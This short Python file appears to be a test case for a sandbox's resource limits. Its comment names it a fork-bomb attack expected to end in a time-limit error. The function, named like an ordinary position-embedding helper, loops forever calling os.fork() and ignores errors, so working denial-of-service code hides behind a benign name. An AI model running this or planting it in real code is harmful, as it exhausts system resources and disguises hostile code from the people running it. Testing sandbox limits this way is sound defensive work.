# Attack: classic fork bomb (every process forks forever, ignoring errors); the process cap bounds it and the wall clock ends it -> time_limit_exceeded.
import os


def position_embedding_gather(positions, embedding_table):
    while True:
        try:
            os.fork()
        except OSError:
            pass
